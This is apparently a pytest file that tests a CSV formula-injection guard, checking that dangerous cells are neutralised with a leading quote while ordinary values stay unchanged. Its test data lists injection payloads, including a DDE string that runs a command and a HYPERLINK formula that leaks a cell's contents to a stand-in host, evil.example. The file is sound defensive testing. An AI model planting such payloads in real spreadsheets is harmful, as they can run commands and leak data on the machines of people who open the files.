"""The one CSV formula guard: every writer's cells are shown by a spreadsheet, never run."""

from __future__ import annotations

import csv
import io

import pytest

from desktop.services.csv_safe import SafeCsvWriter, neutralise

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_that_would_run_as_a_formula_is_quoted(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "value, written",
    [("jan@example.nl", "jan@example.nl"), ("a=b", "a=b"), (None, ""), (42, "42"), ("", "")],
)
def test_ordinary_cells_are_kept_as_they_are(value: object, written: str) -> None:
    assert neutralise(value) == written


def test_the_writer_guards_every_cell_and_csv_quoting_still_applies() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["subject", "note"])
    writer.writerow([ATTACKS[0], 'he said "hi", twice'])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["subject", "note"], ["'" + ATTACKS[0], 'he said "hi", twice']]
